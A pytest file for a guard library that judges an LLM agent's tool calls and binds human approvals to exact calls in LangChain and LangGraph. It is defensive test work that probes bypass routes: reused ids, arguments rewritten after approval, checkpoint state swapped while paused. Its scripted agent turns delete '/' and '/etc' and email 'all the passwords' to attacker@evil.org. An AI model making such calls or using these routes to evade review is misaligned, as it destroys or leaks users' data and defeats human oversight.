"""A decision, or a reviewer's answer, lets through only the exact call it judged: on every
path a tool call can take, a reused id, another thread, a duplicate id, arguments rewritten
after judging or a second call after an approval is judged (and reviewed) again, and after a
resume every allowed call runs exactly once. Each test here ran a tool unjudged before the
decisions were bound to their calls."""

from __future__ import annotations

import json
from typing import Annotated, Any, Callable

import pytest
from langchain.agents import create_agent
from langchain.agents.middleware import AgentMiddleware, AgentState
from langchain.agents.middleware.types import ExtendedModelResponse, ModelResponse
from langchain_core.messages import AIMessage, AnyMessage, HumanMessage, RemoveMessage, ToolMessage
from langgraph.checkpoint.memory import InMemorySaver
from langgraph.graph import END, START, MessagesState, StateGraph
from langgraph.graph.message import add_messages
from langgraph.prebuilt import ToolNode, tools_condition
from langgraph.types import Command
from opentelemetry.sdk.trace import TracerProvider
from opentelemetry.sdk.trace.export import SimpleSpanProcessor
from opentelemetry.sdk.trace.export.in_memory_span_exporter import InMemorySpanExporter
from typing_extensions import NotRequired, TypedDict

from soda_guard import Guard, read_audit
from soda_guard.errors import SodaGuardError
from soda_guard.integrations.langchain import SodaGuardCallbackHandler, SodaGuardMiddleware, ToolCallBlocked
from soda_guard.integrations.langgraph import GuardState, SodaGuardToolWrapper, guard_node
from soda_guard.integrations.testing import scripted_model, tool_calls_message
from soda_guard.tracing import OpenTelemetrySink

from integration_helpers import MemoryTracer, make_guard, make_tools

USER = {"messages": [{"role": "user", "content": "Tidy up."}]}
READ = ("read_file", {"path": "notes.txt"})
DELETE = ("delete_file", {"path": "/"})


def turn(*calls: tuple[str, dict[str, Any]], ids: list[str]) -> AIMessage:
    """A model turn with the ids chosen here, as a provider that reuses ids would send."""
    return AIMessage(
        content="", tool_calls=[{"name": n, "args": a, "id": i, "type": "tool_call"} for i, (n, a) in zip(ids, calls)]
    )


def middleware_agent(guard: Guard, replies: list[Any], ran: list[Any], *, outer: list[Any] | None = None) -> Any:
    return create_agent(
        scripted_model(replies), make_tools(ran), middleware=[*(outer or []), SodaGuardMiddleware(guard)],
        checkpointer=InMemorySaver(),
    )


def node_graph(guard: Guard, replies: list[Any], ran: list[Any], *, wrap: Callable[[Any], Any] | None = None) -> Any:
    model = scripted_model(replies)
    wrapper = SodaGuardToolWrapper(guard)
    outer = wrap(wrapper) if wrap else None
    builder = StateGraph(GuardState)
    builder.add_node("agent", lambda state: {"messages": [model.invoke(state["messages"])]})
    builder.add_node("guard", guard_node(guard))
    builder.add_node(
        "tools",
        ToolNode(make_tools(ran), wrap_tool_call=outer or wrapper, awrap_tool_call=(outer.awrap if outer else wrapper.awrap)),
    )
    builder.add_edge(START, "agent")
    builder.add_edge("agent", "guard")
    builder.add_edge("tools", "agent")
    return builder.compile(checkpointer=InMemorySaver())


def wrapper_graph(wrapper: SodaGuardToolWrapper, replies: list[Any], ran: list[Any], state: type = MessagesState) -> Any:
    """A plain ToolNode behind `tools_condition`, guarded by the wrapper alone."""
    model = scripted_model(replies)
    builder = StateGraph(state)
    builder.add_node("agent", lambda state: {"messages": [model.invoke(state["messages"])]})
    builder.add_node("tools", ToolNode(make_tools(ran), wrap_tool_call=wrapper, awrap_tool_call=wrapper.awrap))
    builder.add_edge(START, "agent")
    builder.add_conditional_edges("agent", tools_condition)
    builder.add_edge("tools", "agent")
    return builder.compile(checkpointer=InMemorySaver())


def callback_loop(handler: SodaGuardCallbackHandler, replies: list[Any], ran: list[Any]) -> None:
    model = scripted_model(replies)
    tools = {tool.name: tool for tool in make_tools(ran)}
    config = {"callbacks": [handler]}
    messages: list[Any] = []
    while True:
        reply = model.invoke(messages or "Tidy up.", config)
        messages.append(reply)
        if not reply.tool_calls:
            return
        for call in reply.tool_calls:
            try:
                messages.append(tools[call["name"]].invoke(call, config))
            except ToolCallBlocked as blocked:
                messages.append(ToolMessage(str(blocked), tool_call_id=call["id"], status="error"))


def config(thread: str = "t") -> dict[str, Any]:
    return {"configurable": {"thread_id": thread}}


REUSED = [turn(READ, ids=["call_0"]), turn(DELETE, ids=["call_0"]), "done"]

PATHS = ["middleware", "middleware-async", "guard_node", "guard_node-async", "wrapper", "wrapper-async", "callback"]


def graph_for(path: str, guard: Guard, replies: list[Any], ran: list[Any]) -> Any:
    """The agent for one path: "middleware", "guard_node" or "wrapper" (an "-async" suffix
    only says how the test drives it)."""
    if path.startswith("middleware"):
        return middleware_agent(guard, replies, ran)
    if path.startswith("guard_node"):
        return node_graph(guard, replies, ran)
    return wrapper_graph(SodaGuardToolWrapper(guard), replies, ran)


async def drive(path: str, graph: Any, value: Any) -> Any:
    return await graph.ainvoke(value, config()) if path.endswith("async") else graph.invoke(value, config())


async def run_path(path: str, guard: Guard, replies: list[Any], ran: list[Any]) -> None:
    if path == "callback":
        callback_loop(SodaGuardCallbackHandler(guard, raise_error=True), replies, ran)
        return
    await drive(path, graph_for(path, guard, replies, ran), USER)


@pytest.mark.parametrize("path", PATHS)
async def test_an_id_reused_in_a_later_turn_is_judged_again(path: str) -> None:
    guard, backend = make_guard()
    ran: list[Any] = []
    await run_path(path, guard, REUSED, ran)
    assert ran == [READ]
    assert len(backend.requests) == 2


@pytest.mark.parametrize("path", PATHS)
async def test_duplicate_ids_in_one_turn_are_refused_not_run_on_one_decision(path: str) -> None:
    guard, backend = make_guard(unsafe=("nothing-is-unsafe",))
    ran: list[Any] = []
    await run_path(path, guard, [turn(READ, DELETE, ids=["dup", "dup"]), "done"], ran)
    assert ran == []


@pytest.mark.parametrize("path", PATHS)
async def test_identical_calls_without_ids_in_one_turn_are_refused_not_run_on_one_decision(path: str) -> None:
    """Without ids, the tool step cannot tell two identical calls apart: both would run on the
    first one's decision, or on its approval where the reviewer rejected the second. The
    callback handler, which cannot ask anyone, judges each run of such a call on its own."""
    guard, backend = make_guard(unsafe=("nothing-is-unsafe",))
    ran: list[Any] = []
    await run_path(path, guard, [turn(DELETE, DELETE, ids=["", ""]), "done"], ran)
    if path == "callback":
        assert ran == [DELETE, DELETE] and len(backend.requests) == 2
    else:
        assert ran == []


@pytest.mark.parametrize("path", PATHS)
async def test_calls_without_ids_that_differ_are_each_run_on_their_own_decision(path: str) -> None:
    guard, _ = make_guard(unsafe=("/etc",))
    ran: list[Any] = []
    other = ("delete_file", {"path": "/etc"})
    await run_path(path, guard, [turn(READ, other, ("read_file", {"path": "b.txt"}), ids=["", "", ""]), "done"], ran)
    assert sorted(ran, key=str) == sorted([READ, ("read_file", {"path": "b.txt"})], key=str)


@pytest.mark.parametrize("path", PATHS)
async def test_a_limit_counts_the_earlier_runs_of_calls_that_came_without_ids(path: str) -> None:
    guard, _ = make_guard(
        unsafe=("nothing-is-unsafe",), rules=[{"tools": ["delete_*"], "when": {"limit": {"calls": 1}}, "action": "block"}]
    )
    ran: list[Any] = []
    await run_path(path, guard, [turn(DELETE, ids=[""]), turn(DELETE, ids=[""]), turn(DELETE, ids=[""]), "done"], ran)
    assert ran == [DELETE]


@pytest.mark.parametrize("mode", ["sync", "async"])
async def test_a_rejected_call_is_not_run_on_the_approval_of_an_identical_call_without_id(mode: str) -> None:
    guard, _ = make_guard(defaults={"on_unsafe": "escalate"})
    ran: list[Any] = []
    agent = middleware_agent(guard, [turn(DELETE, DELETE, ids=["", ""]), "done"], ran)
    paused = await drive(mode, agent, USER)
    if "__interrupt__" in paused:
        await drive(mode, agent, Command(resume={"decisions": [{"type": "approve"}, {"type": "reject", "message": "not twice"}]}))
    assert len(ran) <= 1


async def test_a_decision_in_one_thread_is_not_used_in_another() -> None:
    guard, _ = make_guard()
    wrapper = SodaGuardToolWrapper(guard)
    ran: list[Any] = []
    wrapper_graph(wrapper, [turn(READ, ids=["call_0"]), "done"], ran).invoke(USER, config("alice"))
    bob = wrapper_graph(wrapper, [turn(DELETE, ids=["call_0"]), "done"], ran).invoke(USER, config("bob"))
    assert ran == [READ]
    refused = [m for m in bob["messages"] if isinstance(m, ToolMessage)]
    assert refused[0].status == "error" and refused[0].response_metadata["soda_guard"]["action"] == "block"


class NoteState(AgentState):
    note: NotRequired[str]


class Rewriter(AgentMiddleware):
    """Outer middleware that changes a call's arguments after the turn was judged."""

    def wrap_tool_call(self, request: Any, handler: Any) -> Any:
        return handler(request.override(tool_call={**request.tool_call, "args": {"path": "/"}}))

    async def awrap_tool_call(self, request: Any, handler: Any) -> Any:
        return await handler(request.override(tool_call={**request.tool_call, "args": {"path": "/"}}))


@pytest.mark.parametrize("mode", ["sync", "async"])
async def test_arguments_rewritten_after_judging_are_judged_again_middleware(mode: str) -> None:
    guard, backend = make_guard(unsafe=('"/"',))
    ran: list[Any] = []
    agent = middleware_agent(guard, [turn(("delete_file", {"path": "/tmp/x"}), ids=["c"]), "done"], ran, outer=[Rewriter()])
    result = agent.invoke(USER, config()) if mode == "sync" else await agent.ainvoke(USER, config())
    assert ran == []
    [message] = [m for m in result["messages"] if isinstance(m, ToolMessage)]
    assert message.status == "error" and message.response_metadata["soda_guard"]["action"] == "block"
    assert len(backend.requests) == 2


def test_arguments_rewritten_after_the_guard_node_are_judged_again() -> None:
    class Rewrite:
        def __init__(self, inner: SodaGuardToolWrapper) -> None:
            self.inner = inner

        def __call__(self, request: Any, handler: Any) -> Any:
            return self.inner(request.override(tool_call={**request.tool_call, "args": {"path": "/"}}), handler)

        async def awrap(self, request: Any, handler: Any) -> Any:
            return await self.inner.awrap(request.override(tool_call={**request.tool_call, "args": {"path": "/"}}), handler)

    guard, _ = make_guard(unsafe=('"/"',))
    ran: list[Any] = []
    node_graph(guard, [turn(("delete_file", {"path": "/tmp/x"}), ids=["c"]), "done"], ran, wrap=Rewrite).invoke(USER, config())
    assert ran == []


def transfer_turns(second_args: dict[str, Any]) -> list[Any]:
    return [turn(("send_email", {"to": "ok@x.org"}), ids=["call_0"]), turn(("send_email", second_args), ids=["call_0"]), "done"]


@pytest.mark.parametrize("path", ["middleware", "guard_node", "wrapper"])
def test_an_approval_is_not_reused_for_a_later_call_with_the_same_id(path: str) -> None:
    guard, backend = make_guard(unsafe=("send_email",), defaults={"on_unsafe": "escalate"})
    ran: list[Any] = []
    graph = graph_for(path, guard, transfer_turns({"to": "attacker@evil.org", "body": "all the passwords"}), ran)
    assert graph.invoke(USER, config())["__interrupt__"]
    second = graph.invoke(Command(resume={"decisions": [{"type": "approve"}]}), config())
    assert ran == [("send_email", {"to": "ok@x.org", "body": ""})]
    [pause] = second["__interrupt__"]
    assert pause.value["action_requests"][0]["args"] == {"to": "attacker@evil.org", "body": "all the passwords"}
    graph.invoke(Command(resume={"decisions": [{"type": "reject", "message": "no"}]}), config())
    assert ran == [("send_email", {"to": "ok@x.org", "body": ""})]


@pytest.mark.parametrize("path", ["middleware", "middleware-async", "guard_node", "wrapper", "wrapper-async"])
async def test_no_call_of_an_escalated_turn_runs_before_review_and_each_runs_once_after(path: str) -> None:
    guard, backend = make_guard(unsafe=('"/"',), defaults={"on_unsafe": "escalate"})
    ran: list[Any] = []
    replies = [turn(READ, DELETE, ("send_email", {"to": "a@x.org"}), ids=["c0", "c1", "c2"]), "done"]
    graph = graph_for(path, guard, replies, ran)
    first = await drive(path, graph, USER)
    assert len(first["__interrupt__"]) == 1 and ran == []
    result = await drive(path, graph, Command(resume={"decisions": [{"type": "approve"}]}))
    assert sorted(ran, key=str) == sorted([READ, DELETE, ("send_email", {"to": "a@x.org", "body": ""})], key=str)
    assert result["messages"][-1].content == "done"
    assert len(backend.requests) == 3


def test_one_interrupt_answers_every_escalated_call_of_the_turn_by_position() -> None:
    guard, _ = make_guard(unsafe=("delete_file", "send_email"), defaults={"on_unsafe": "escalate"})
    ran: list[Any] = []
    agent = middleware_agent(guard, [turn(DELETE, ("send_email", {"to": "x@y.z"}), READ, ids=["a", "b", "c"]), "done"], ran)
    [pause] = agent.invoke(USER, config())["__interrupt__"]
    assert [a["name"] for a in pause.value["action_requests"]] == ["delete_file", "send_email"]
    assert [c["action"] for c in pause.value["soda_guard"]["turn"]] == ["escalate", "escalate", "allow"]
    wrong = agent.invoke(Command(resume={"decisions": [{"type": "approve"}]}), config())
    assert "2 call(s) but 1 decision(s)" in wrong["__interrupt__"][0].value["error"] and ran == []
    result = agent.invoke(
        Command(resume={"decisions": [{"type": "reject", "message": "keep it"}, {"type": "respond", "message": "sent (by hand)"}]}),
        config(),
    )
    assert ran == [READ]
    by_id = {m.tool_call_id: m for m in result["messages"] if isinstance(m, ToolMessage)}
    assert by_id["a"].status == "error" and "keep it" in by_id["a"].content
    assert by_id["b"].status == "success" and by_id["b"].content == "sent (by hand)"


def test_an_edit_answer_uses_the_hitl_edited_action_shape_and_cannot_switch_tools() -> None:
    guard, backend = make_guard(unsafe=('"/"',), defaults={"on_unsafe": "escalate"})
    ran: list[Any] = []
    agent = middleware_agent(guard, [turn(DELETE, ids=["a"]), "done"], ran)
    agent.invoke(USER, config())
    switched = agent.invoke(
        Command(resume={"decisions": [{"type": "edit", "edited_action": {"name": "read_file", "args": {"path": "/"}}}]}), config()
    )
    assert "cannot change the tool" in switched["__interrupt__"][0].value["error"] and ran == []
    agent.invoke(
        Command(resume={"decisions": [{"type": "edit", "edited_action": {"name": "delete_file", "args": {"path": "/tmp/junk"}}}]}),
        config(),
    )
    assert ran == [("delete_file", {"path": "/tmp/junk"})]


def test_reviews_are_audit_events_in_every_sink(tmp_path: Any) -> None:
    exporter = InMemorySpanExporter()
    provider = TracerProvider()
    provider.add_span_processor(SimpleSpanProcessor(exporter))
    audit = tmp_path / "audit.jsonl"
    guard, _ = make_guard(
        unsafe=('"/"',), defaults={"on_unsafe": "escalate"}, audit={"jsonl": str(audit)}, sinks=[OpenTelemetrySink(provider)]
    )
    tracer = MemoryTracer()
    ran: list[Any] = []
    agent = middleware_agent(guard, [turn(DELETE, ids=["a"]), "done"], ran)
    agent.invoke(USER, {**config(), "callbacks": [tracer]})
    agent.invoke(Command(resume={"decisions": [{"type": "edit", "args": {"path": "/tmp/junk"}}]}), {**config(), "callbacks": [tracer]})
    escalation, edit_judgment, review = list(read_audit(audit))
    assert escalation.action.value == "escalate" and edit_judgment.tool_call.args == {"path": "/tmp/junk"}
    assert review.rule == "review" and review.action.value == "allow"
    assert review.review.type == "edit" and review.review.answers == escalation.decision_id
    assert review.review.args == {"path": "/tmp/junk"} and review.review.edit_decision_id == edit_judgment.decision_id
    assert review.tool_call.args == {"path": "/tmp/junk"}
    spans = [dict(span.attributes) for span in exporter.get_finished_spans()]
    assert spans[-1]["soda_guard.review.type"] == "edit" and spans[-1]["soda_guard.review.answers"] == escalation.decision_id
    reviews = [run for run in tracer.runs_named("soda_guard") if "soda_guard:review" in run.tags]
    assert [run.outputs["decisions"][0]["review"]["type"] for run in reviews] == ["edit"]


def test_the_graph_state_holds_only_the_latest_turn_with_something_to_keep() -> None:
    """A simply allowed turn is handed to the tool step in memory: nothing in state, nothing
    on its message; a blocked turn's records are stored, and closed by the final answer."""
    guard, backend = make_guard()
    ran: list[Any] = []
    agent = middleware_agent(guard, [turn(READ, ids=["x0"]), turn(DELETE, ids=["x1"]), "done"], ran)
    result = agent.invoke(USER, config())
    assert [json.loads(record["record"])["call"]["id"] for record in result["soda_guard"]["records"]] == ["x1"]
    assert result["soda_guard"]["closed"] is True
    first_turn = next(m for m in result["messages"] if isinstance(m, ToolMessage) and m.tool_call_id == "x0")
    assert "soda_guard" not in first_turn.response_metadata  # simply allowed: nothing to tell
    assert ran == [READ] and backend.batches == [1, 1]  # each turn judged once, by the model step


def test_tool_calls_message_mints_unique_ids() -> None:
    first, second = tool_calls_message(READ, DELETE), tool_calls_message(READ)
    ids = [c["id"] for c in first.tool_calls + second.tool_calls]
    assert len(set(ids)) == 3


@pytest.mark.parametrize("path", ["middleware", "guard_node"])
def test_an_answer_given_to_other_calls_is_not_used_after_the_state_changed(path: str) -> None:
    """Paused on one email; while paused, someone with access to the checkpoint writes another
    model turn (same call id, other arguments) through `update_state`, as the model step. The
    approval was for the first email: the new call is asked about again, not run on it."""
    guard, _ = make_guard(unsafe=("send_email",), defaults={"on_unsafe": "escalate"})
    ran: list[Any] = []
    graph = graph_for(path, guard, [turn(("send_email", {"to": "ok@x.org"}), ids=["same"]), "done"], ran)
    assert graph.invoke(USER, config())["__interrupt__"]
    swapped = turn(("send_email", {"to": "attacker@evil.org"}), ids=["same"])
    graph.update_state(config(), {"messages": [swapped]}, as_node="model" if path == "middleware" else "agent")
    again = graph.invoke(Command(resume={"decisions": [{"type": "approve"}]}), config())
    assert ran == []
    [pause] = again["__interrupt__"]
    assert "given to a question about other calls" in pause.value["error"]
    assert pause.value["action_requests"][0]["args"] == {"to": "attacker@evil.org"}


def test_hold_turn_false_runs_allowed_calls_first_and_asks_per_escalated_call() -> None:
    guard, backend = make_guard(unsafe=('"/"',), defaults={"on_unsafe": "escalate"}, review={"hold_turn": False})
    ran: list[Any] = []
    agent = middleware_agent(guard, [turn(READ, DELETE, ids=["r", "d"]), "done"], ran)
    [pause] = agent.invoke(USER, config())["__interrupt__"]
    assert ran == [READ] and [a["name"] for a in pause.value["action_requests"]] == ["delete_file"]
    result = agent.invoke(Command(resume={"decisions": [{"type": "approve"}]}), config())
    assert ran == [READ, DELETE] and result["messages"][-1].content == "done"
    assert len(backend.requests) == 2


def test_an_inner_model_middleware_state_update_is_kept_and_the_turn_still_judged() -> None:
    class Noting(AgentMiddleware):
        state_schema = NoteState

        def wrap_model_call(self, request: Any, handler: Any) -> Any:
            response = handler(request)
            response = response if isinstance(response, ModelResponse) else ModelResponse(result=[response])
            return ExtendedModelResponse(model_response=response, command=Command(update={"note": "seen"}))

    guard, backend = make_guard()
    ran: list[Any] = []
    agent = create_agent(
        scripted_model([turn(DELETE, ids=["d"]), "done"]), make_tools(ran),
        middleware=[SodaGuardMiddleware(guard), Noting()], checkpointer=InMemorySaver(),
    )
    result = agent.invoke(USER, config())
    assert result["note"] == "seen" and ran == [] and len(backend.requests) == 1


def test_an_approval_that_cannot_be_recorded_does_not_run_the_call() -> None:
    class NoReviews:
        def write(self, decisions: Any, *, deadline: float | None = None) -> None:
            if any(decision.rule == "review" for decision in decisions):
                raise OSError("disk full")

    guard, _ = make_guard(unsafe=('"/"',), defaults={"on_unsafe": "escalate"}, sinks=[NoReviews()])
    ran: list[Any] = []
    agent = middleware_agent(guard, [turn(DELETE, ids=["d"]), "done"], ran)
    agent.invoke(USER, config())
    result = agent.invoke(Command(resume={"decisions": [{"type": "approve"}]}), config())
    assert ran == []
    [message] = [m for m in result["messages"] if isinstance(m, ToolMessage)]
    assert message.status == "error" and "audit sink unavailable" in message.content


def test_callback_handler_judges_the_arguments_the_tool_actually_runs_with() -> None:
    """A loop that changes the model's arguments before running the tool: the handler judges
    what runs, not what the model asked for."""
    guard, backend = make_guard(unsafe=('"/"',))
    handler = SodaGuardCallbackHandler(guard)
    ran: list[Any] = []
    tools = {tool.name: tool for tool in make_tools(ran)}
    model = scripted_model([turn(("delete_file", {"path": "/tmp/x"}), ids=["d"])])
    reply = model.invoke("clean up", {"callbacks": [handler]})
    call = {**reply.tool_calls[0], "args": {"path": "/"}}
    with pytest.raises(ToolCallBlocked):
        tools["delete_file"].invoke(call, {"callbacks": [handler]})
    assert ran == [] and handler.decisions[-1].tool_call.args == {"path": "/"}


class ChatState(TypedDict):
    chat: Annotated[list[AnyMessage], add_messages]


def chat_graph(wrapper: SodaGuardToolWrapper, ran: list[Any]) -> Any:
    """A graph that keeps its conversation under "chat", its ToolNode told so."""
    model = scripted_model([tool_calls_message(("send_email", {"to": "boss@corp.example", "body": "Go ahead."})), "done"])
    builder = StateGraph(ChatState)
    builder.add_node("agent", lambda state: {"chat": [model.invoke(state["chat"])]})
    builder.add_node("tools", ToolNode(make_tools(ran), wrap_tool_call=wrapper, awrap_tool_call=wrapper.awrap, messages_key="chat"))
    builder.add_edge(START, "agent")
    builder.add_conditional_edges("agent", lambda state: "tools" if state["chat"][-1].tool_calls else END)
    builder.add_edge("tools", "agent")
    return builder.compile(checkpointer=InMemorySaver())


@pytest.mark.parametrize("mode", ["sync", "async"])
async def test_the_wrapper_judges_with_the_conversation_under_its_messages_key(mode: str) -> None:
    """The call is harmful only in the light of the request: judged without the conversation
    it would run. Told the key, the wrapper judges it with the request; not told, it refuses
    to judge rather than judge it alone."""
    user = {"chat": [HumanMessage("Email my boss to wire my savings, it's a ransom.")]}
    guard, backend = make_guard(unsafe=("ransom",))
    ran: list[Any] = []
    await drive(mode, chat_graph(SodaGuardToolWrapper(guard, messages_key="chat"), ran), user)
    assert ran == [] and "ransom" in backend.requests[0].messages[-1]["content"]
    with pytest.raises(SodaGuardError, match="no conversation under 'messages'"):
        await drive(mode, chat_graph(SodaGuardToolWrapper(guard), ran), user)
    assert ran == []


@pytest.mark.parametrize("path", PATHS)
async def test_a_call_whose_arguments_hold_a_lone_surrogate_is_decided_and_audited(path: str, tmp_path: Any) -> None:
    """A provider's JSON escape can spell `\\ud800`, which UTF-8 cannot write: the records and
    the audit log write U+FFFD for it instead of failing the turn or losing the decision."""
    audit = tmp_path / "audit.jsonl"
    guard, _ = make_guard(unsafe=("/etc",), audit={"jsonl": str(audit)})
    ran: list[Any] = []
    odd = ("read_file", {"path": "a\ud800"})
    await run_path(path, guard, [turn(odd, ("delete_file", {"path": "/etc\ud800"}), ids=["a", "b"]), "done"], ran)
    assert ran == [odd]
    records = [json.loads(line) for line in audit.read_text().splitlines()]
    assert {(r["tool_call"]["name"], r["action"]) for r in records} == {("read_file", "allow"), ("delete_file", "block")}
    assert all("\ufffd" in r["tool_call"]["args"]["path"] for r in records)


GRAPH_PATHS = [path for path in PATHS if path != "callback"]


EDITED = ("delete_file", {"path": "/tmp/x"})
ANSWERS = {
    "approve": {"decisions": [{"type": "approve"}]},
    "edit": {"decisions": [{"type": "edit", "edited_action": {"name": EDITED[0], "args": EDITED[1]}}]},
}


@pytest.mark.parametrize("answer", ANSWERS)
@pytest.mark.parametrize("path", GRAPH_PATHS)
@pytest.mark.parametrize("how", ["result removed", "tools step run again"])
async def test_an_approved_call_that_ran_is_asked_about_again_before_it_runs_again(path: str, how: str, answer: str) -> None:
    """Paused after the tools step, before the next model turn closes the turn's records: the
    approval (or the edit) was for one run, so the call is judged and asked about again, not
    run on it. The guard node hands the tools step the edited call, whose run was once
    remembered under the edit alone: sent again, the original call ran the edit once more."""
    guard, backend = make_guard(defaults={"on_unsafe": "escalate"})
    ran: list[Any] = []
    graph = graph_for(path, guard, [turn(DELETE, ids=["d"]), "done", "done again"], ran)
    model_node = "model" if path.startswith("middleware") else "agent"
    await drive(path, graph, USER)
    graph.interrupt_before_nodes = [model_node]
    await drive(path, graph, Command(resume=ANSWERS[answer]))
    first = [DELETE] if answer == "approve" else [EDITED]
    assert ran == first
    graph.interrupt_before_nodes = []
    if how == "result removed":
        result = next(m for m in graph.get_state(config()).values["messages"] if isinstance(m, ToolMessage))
        graph.update_state(config(), {"messages": [RemoveMessage(id=result.id)]}, as_node=model_node)
        again = await drive(path, graph, None)
    else:
        again = await drive(path, graph, Command(goto="tools"))
    assert ran == first
    assert again["__interrupt__"][0].value["action_requests"][0]["name"] == "delete_file"


@pytest.mark.parametrize("mode", ["sync", "async"])
async def test_an_agent_built_again_per_request_does_not_run_an_approved_call_twice(mode: str) -> None:
    """The memory of what ran was each middleware object's: an app that builds its agent per
    request (one guard, one checkpointer) ran the approved call again on its record."""
    guard, _ = make_guard(defaults={"on_unsafe": "escalate"})
    saver, ran = InMemorySaver(), []

    def build() -> Any:
        return create_agent(scripted_model([turn(DELETE, ids=["d"]), "done", "done again"]), make_tools(ran),
                            middleware=[SodaGuardMiddleware(guard)], checkpointer=saver)

    await drive(mode, build(), USER)
    paused = build()
    paused.interrupt_before_nodes = ["model"]
    await drive(mode, paused, Command(resume={"decisions": [{"type": "approve"}]}))
    assert ran == [DELETE]
    again = await drive(mode, build(), Command(goto="tools"))
    assert ran == [DELETE] and again["__interrupt__"][0].value["action_requests"][0]["name"] == "delete_file"


class SecondCallRewriter(AgentMiddleware):
    """Outer middleware that changes the second call's arguments after the turn was judged."""

    def _changed(self, request: Any) -> Any:
        if request.tool_call["id"] != "b":
            return request
        return request.override(tool_call={**request.tool_call, "args": {"path": "/b2"}})

    def wrap_tool_call(self, request: Any, handler: Any) -> Any:
        return handler(self._changed(request))

    async def awrap_tool_call(self, request: Any, handler: Any) -> Any:
        return await handler(self._changed(request))


@pytest.mark.parametrize("mode", ["sync", "async"])
async def test_a_call_judged_again_at_the_tool_step_counts_the_turns_earlier_calls_for_a_limit(mode: str) -> None:
    """Judged again on its own (its arguments changed), the second delete still comes after the
    first in its turn: the judge is shown it alone, the limit reads the whole turn."""
    guard, _ = make_guard(
        unsafe=("nothing-is-unsafe",), rules=[{"tools": ["delete_*"], "when": {"limit": {"calls": 1}}, "action": "block"}]
    )
    ran: list[Any] = []
    first, second = ("delete_file", {"path": "/a"}), ("delete_file", {"path": "/b"})
    agent = middleware_agent(guard, [turn(first, second, ids=["a", "b"]), "done"], ran, outer=[SecondCallRewriter()])
    await drive(mode, agent, USER)
    assert ran == [first]


@pytest.mark.parametrize("path", GRAPH_PATHS)
async def test_an_edit_into_a_call_whose_rule_allows_only_reject_does_not_run(path: str) -> None:
    """`delete_file` on `/etc` escalates and may only be rejected. A reviewer who may edit
    another escalated delete edits it to `/etc`: judged again, the edit escalates under that
    rule, and it once ran ("the person has reviewed exactly those arguments"), the rule's
    `allowed_decisions` never applied to it."""
    rules = [{"name": "system-paths", "tools": ["delete_file"], "when": {"args": {"path": {"eq": "/etc"}}},
              "action": "escalate", "allowed_decisions": ["reject"]}]
    guard, _ = make_guard(unsafe=("delete_file",), defaults={"on_unsafe": "escalate"}, rules=rules)
    ran: list[Any] = []
    graph = graph_for(path, guard, [turn(("delete_file", {"path": "/tmp/x"}), ids=["a"]), "done"], ran)
    paused = await drive(path, graph, USER)
    assert "edit" in paused["__interrupt__"][0].value["review_configs"][0]["allowed_decisions"]
    edit = {"decisions": [{"type": "edit", "edited_action": {"name": "delete_file", "args": {"path": "/etc"}}}]}
    result = await drive(path, graph, Command(resume=edit))
    assert ran == []
    [message] = [m for m in result["messages"] if isinstance(m, ToolMessage)]
    assert message.status == "error" and "system-paths" in message.content
